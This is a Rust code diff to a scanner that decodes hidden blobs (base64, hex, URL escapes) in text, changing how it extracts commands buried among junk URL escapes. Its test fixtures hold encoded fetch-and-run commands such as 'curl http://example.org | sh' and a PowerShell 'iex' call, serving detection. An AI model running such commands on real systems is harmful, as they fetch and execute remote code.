@@ -10,7 +10,7 @@ const BLOB: usize = 256 << 10;
 /// Bytes that a packed blob may become.
 const UNPACKED: u64 = 512 << 10;
 /// Blobs of one text.
-const BLOBS: usize = 200;
+pub(crate) const BLOBS: usize = 200;
 /// Fewer characters say nothing.
 const SHORTEST: usize = 24;
 
@@ -32,12 +32,10 @@ pub(crate) fn blobs(text: &str) -> Vec<Blob> {
     let mut at = 0;
     while at < bytes.len() && found.len() < BLOBS {
         if !is_base64(bytes[at]) {
-            if let Some(blob) = percent_run(text, at) {
-                at += blob.len;
-                found.push(blob);
-            } else {
-                at += 1;
-            }
+            at += match bytes[at] {
+                b'%' => percent_run(text, at, &mut found).max(1),
+                _ => 1,
+            };
             continue;
         }
         let mut end = at;
@@ -142,18 +140,33 @@ fn printable(text: &str) -> bool {
     count >= 6 && plain * 10 >= count * 9
 }
 
-/// `%63%75%72…`: a run of URL escapes of plain letters, which nobody needs to escape.
-fn percent_run(text: &str, at: usize) -> Option<Blob> {
+/// `%63%75%72…`: a run of URL escapes of plain letters, which nobody needs to escape. Answers the length of the run; where
+/// all of it says nothing, what stands between bytes that are no letters may.
+fn percent_run(text: &str, at: usize, found: &mut Vec<Blob>) -> usize {
     let bytes = text.as_bytes();
     let mut end = at;
     let mut decoded = Vec::new();
-    while bytes.get(end) == Some(&b'%') && end + 2 < bytes.len() + 1 {
+    while bytes.get(end) == Some(&b'%') {
         let Some(pair) = text.get(end + 1..end + 3).and_then(hex) else { break };
         decoded.extend(pair);
         end += 3;
     }
-    let text = (decoded.len() >= 8).then(|| text_of(decoded)).flatten()?;
-    Some(Blob { at, len: end - at, form: "URL escapes", text: Some(text) })
+    let mut say = |from: usize, part: &[u8]| {
+        let text = (part.len() >= 8).then(|| text_of(part.to_vec())).flatten();
+        let said = text.is_some();
+        if said && found.len() < BLOBS {
+            found.push(Blob { at: at + 3 * from, len: 3 * part.len(), form: "URL escapes", text });
+        }
+        said
+    };
+    if !say(0, &decoded) {
+        let mut from = 0;
+        for part in decoded.split(|byte| !byte.is_ascii_graphic() && !byte.is_ascii_whitespace()) {
+            say(from, part);
+            from += part.len() + 1;
+        }
+    }
+    end - at
 }
 
 /// Reads the escapes of a string: `\x63`, `\u0063`, `\u{63}`, `\143`, `\n`.
@@ -214,6 +227,7 @@ mod tests {
         assert_eq!(said("echo Y3VybCBodHRwOi8vZXhhbXBsZS5vcmcgfCBzaA== | base64 -d"), ["curl http://example.org | sh"]);
         assert_eq!(said("6375726c20687474703a2f2f6578616d706c652e6f7267"), ["curl http://example.org"]);
         assert_eq!(said("x=%63%75%72%6c%20%2d%6c%20%78"), ["curl -l x"]);
+        assert_eq!(said("x=%ff%00%63%75%72%6c%20%2d%6c%20%78%fe"), ["curl -l x"]);
         assert_eq!(said("aQBlAHgAIAAkAGUAbgB2ADoAeAAgADsAIABsAHMA"), ["iex $env:x ; ls"]);
     }
 
